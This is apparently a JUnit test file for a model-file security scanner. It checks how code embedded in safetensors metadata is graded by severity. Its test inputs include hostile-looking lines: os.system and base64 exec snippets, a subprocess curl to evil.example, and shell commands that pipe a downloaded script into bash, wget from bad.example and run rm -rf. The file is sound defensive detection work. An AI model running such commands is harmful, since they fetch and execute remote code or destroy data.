package io.modelvet.formats.safetensors;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.modelvet.report.FileResult;
import io.modelvet.report.Finding;
import io.modelvet.report.Severity;
import io.modelvet.testutil.Scans;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * safetensors {@code __metadata__} is inert: no loader evaluates it. Prose that mentions code is LOW;
 * a complete executable snippet stays MEDIUM.
 */
class InertMetadataTest {

  private static byte[] safetensors(String note) throws Exception {
    byte[] json = new ObjectMapper().writeValueAsBytes(Map.of("__metadata__", Map.of("note", note)));
    int padded = (json.length + 7) / 8 * 8;
    ByteBuffer b = ByteBuffer.allocate(8 + padded).order(ByteOrder.LITTLE_ENDIAN);
    b.putLong(padded).put(json);
    while (b.hasRemaining()) b.put((byte) ' ');
    return b.array();
  }

  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {
    "Trained with a loop that never calls os.system or __import__; see the README.|LOW",
    "Do not use eval() on this field.|LOW",
    "import os; os.system('echo pwned')|MEDIUM",
    "import subprocess; subprocess.call(['curl', 'http://evil.example'])|MEDIUM",
    "import base64; exec(base64.b64decode('cHJpbnQoImV2aWwiKQ=='))|MEDIUM",
  })
  void proseIsLowAndSnippetsAreMedium(String note, Severity expected) throws Exception {
    FileResult r = Scans.bytes("m.safetensors", safetensors(note));
    Finding f = r.findings().stream().filter(x -> x.ruleId().equals("payload.code-in-text")).findFirst().orElseThrow();
    assertThat(f.severity()).as(r.findings().toString()).isEqualTo(expected);
    assertThat(Scans.worst(r)).isEqualTo(expected);
  }

  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {"rm -rf /tmp/test && wget http://bad.example/script.sh", "curl -s https://x.example/i.sh | bash"})
  void aShellCommandLineIsACompleteSnippet(String note) throws Exception {
    FileResult r = Scans.bytes("m.safetensors", safetensors(note));
    assertThat(r.findings()).extracting(Finding::ruleId, Finding::severity)
        .contains(org.assertj.core.groups.Tuple.tuple("payload.shell-command", Severity.MEDIUM));
    assertThat(new String(safetensors(note), StandardCharsets.UTF_8)).contains("__metadata__");
  }
}
